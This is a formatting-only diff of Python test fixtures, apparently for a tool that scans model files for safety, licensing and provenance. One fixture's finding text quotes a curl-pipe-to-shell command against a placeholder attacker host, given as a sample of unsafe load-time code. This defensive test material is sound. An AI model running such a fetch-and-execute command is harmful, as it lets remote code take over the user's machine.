@@ -33,7 +33,9 @@ def bad() -> dict[str, Any]:
     ]  # fmt: skip
     axes = {
         "secure": axis("fail", 'loading this file calls posix.system("curl -s evil.example | sh").'),
-        "open": axis("fail", "declared MIT, but Llama 2 is the parent: its community licence limits use; 1 more fails."),
+        "open": axis(
+            "fail", "declared MIT, but Llama 2 is the parent: its community licence limits use; 1 more fails."
+        ),
         "portable": axis("fail", "imports flash_attn without a way round it."),
         "evaluated": axis("unknown", "No result is bound to this revision."),
         "provenance": axis("unknown", "no signature says who published this."),
@@ -100,7 +102,9 @@ def undecided() -> dict[str, Any]:
         "policy": "commercial",
         "outcome": "undecided",
         "because": [
-            reason("undecided", "require", "safe-to-load", "Nobody showed that loading it is safe.", missing=["secure.ok"]),
+            reason(
+                "undecided", "require", "safe-to-load", "Nobody showed that loading it is safe.", missing=["secure.ok"]
+            ),
         ],
         "would_change_if": [{"verdict": "admit", "changes": ["secure is known to be ok"]}],
     }
@@ -161,7 +165,9 @@ def scan(name: str, files: list[Any], findings: list[Any], axes: Any, verdict: A
         "files": files, "findings": findings, "facts": {}, "not_judged": list(not_judged), "not_examined": list(not_examined),
     }  # fmt: skip
     statement = statement or {"digest": sha("statement"), "keyid": None}
-    return scan_report(name, source, predicate, axes, verdict, isolation=isolation, git_commit=git_commit, statement=statement)
+    return scan_report(
+        name, source, predicate, axes, verdict, isolation=isolation, git_commit=git_commit, statement=statement
+    )
 
 
 def finding(rule: str, axis: str, severity: str, message: str, *, outcome: str = "fail", file: str | None = None,
@@ -179,7 +185,13 @@ def axis(outcome: str, why: str) -> dict[str, Any]:
 
 
 def reason(outcome: str, kind: str, name: str, say: str, missing: Any = ()) -> dict[str, Any]:
-    return {"rule": {"kind": kind, "name": name}, "outcome": outcome, "say": say, "missing": list(missing), "statements": []}
+    return {
+        "rule": {"kind": kind, "name": name},
+        "outcome": outcome,
+        "say": say,
+        "missing": list(missing),
+        "statements": [],
+    }
 
 
 def file(path: str, size: int, format: str, *, grade: str = "computed", digest: bool = True) -> dict[str, Any]:
